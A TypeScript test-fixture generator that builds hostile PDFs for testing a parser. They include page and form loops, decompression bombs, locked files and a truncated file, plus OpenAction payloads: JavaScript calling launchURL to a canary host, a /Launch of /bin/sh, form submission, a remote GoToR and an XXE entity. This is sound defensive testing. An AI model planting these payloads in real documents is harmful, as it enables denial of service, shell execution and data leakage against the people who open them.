import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { type PdfObject, pdfFile, pdfStream, textPdf } from '../pdf-file.ts'
import { chineseSamples, type Sample } from '../sample.ts'
import type { HostileFile } from './hostile-file.ts'

const sample: Sample = chineseSamples[0] ?? { title: '', parts: [] }
const catalogue = '<< /Type /Catalog /Pages 2 0 R >>'
const onePage = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${more} >>`
const font =
  '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'

const pdf = (
  name: string,
  objects: PdfObject[],
  reasons: HostileFile['reasons'] = ['no-text', 'damaged', 'parser-slow', 'parser-died'],
): HostileFile => ({ name: `${name}.pdf`, bytes: pdfFile(objects), reasons })

/** G3, G7: PDFs that loop, burst, are locked or want to act. */
export function hostilePdfs(canary: string): HostileFile[] {
  return [
    ...loops(),
    ...bursts(),
    ...acts(canary),
    ...[1, 2, 3].map((n) => lockedPdf(n)),
    ...manyPages(),
    cutWithout('startxref'),
  ]
}

function loops(): HostileFile[] {
  const formLoop = pdfStream(
    Buffer.from('/F Do /F Do'),
    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
  )
  const inner = '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9 >>'
  const drawing = page('/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>')
  return [
    pdf('tree-loop', [catalogue, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>']),
    pdf('parent-loop', [catalogue, onePage, inner]),
    pdf('form-loop', [catalogue, onePage, drawing, pdfStream(Buffer.from('/F Do')), formLoop]),
    pdf('self-reference', ['1 0 R', onePage]),
    pdf('no-pages', ['<< /Type /Catalog >>']),
    pdf('no-catalogue', ['(x)']),
  ]
}

function bursts(): HostileFile[] {
  const zeros = deflateSync(Buffer.alloc(200 * 1024 * 1024, ' '))
  const content = (data: Buffer, filter: string) => [
    catalogue,
    onePage,
    page('/Contents 4 0 R'),
    pdfStream(data, `/Filter ${filter}`),
  ]
  const sized = (box: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] >>`
  return [
    pdf('stream-bomb', content(zeros, '/FlateDecode')),
    pdf('stream-bomb-twice', content(deflateSync(zeros), '[/FlateDecode /FlateDecode]')),
    pdf('filters', content(Buffer.from('x'), `[${'/ASCIIHexDecode '.repeat(5_000)}]`)),
    pdf('huge-page', [catalogue, onePage, sized('0 0 1e9 1e9')]),
    pdf('negative-page', [catalogue, onePage, sized('9 9 -9 -9')]),
    pdf('deep-arrays', [catalogue, onePage, page(`/X ${'['.repeat(100_000)}`)]),
  ]
}

function acts(canary: string): HostileFile[] {
  const act = (words: string) => [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${words} >> >>`,
    onePage,
    page(''),
  ]
  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/xfa">]><x>&e;</x>`
  const form = '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>'
  return [
    pdf('script', act(`/S /JavaScript /JS (app.launchURL('${canary}/js'))`)),
    pdf('launch', act('/S /Launch /F (/bin/sh)')),
    pdf('submit', act(`/S /SubmitForm /F << /FS /URL /F (${canary}/form) >>`)),
    pdf('remote', act(`/S /GoToR /F (${canary}/go)`)),
    pdf('xfa', [form, onePage, page(''), pdfStream(Buffer.from(entity))]),
  ]
}

/** Standard encryption with a password nobody knows: the check value fits no empty password. */
function lockedPdf(n: number): HostileFile {
  const hex = (text: string) => createHash('sha256').update(`${text}${n}`).digest('hex')
  const objects = [
    catalogue,
    onePage,
    page(`/Contents 4 0 R ${font}`),
    pdfStream(Buffer.from('BT /F1 12 Tf (secret) Tj ET')),
    `<< /Filter /Standard /V ${n === 1 ? 1 : 2} /R ${n === 1 ? 2 : 3} /Length ${n === 1 ? 40 : 128} /O <${hex('o')}> /U <${hex('u')}> /P -44 >>`,
  ]
  const bytes = pdfFile(
    objects,
    `/Encrypt 5 0 R /ID [<${hex('i').slice(0, 32)}> <${hex('i').slice(0, 32)}>]`,
  )
  return { name: `locked-${n}.pdf`, bytes, reasons: ['locked'] }
}

function manyPages(): HostileFile[] {
  return [4_000, 50_000].map((count) => {
    const kids = Array.from({ length: count }, () => '3 0 R').join(' ')
    const tree = `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`
    const reasons: HostileFile['reasons'] = ['too-large', 'damaged', 'no-text', 'parser-slow']
    return { ...pdf(`pages-${count}`, [catalogue, tree, page('')], reasons), isSlow: true }
  })
}

function cutWithout(mark: string): HostileFile {
  const bytes = textPdf(sample)
  return {
    name: 'no-end.pdf',
    bytes: bytes.subarray(0, bytes.lastIndexOf(mark)),
    reasons: ['damaged'],
  }
}
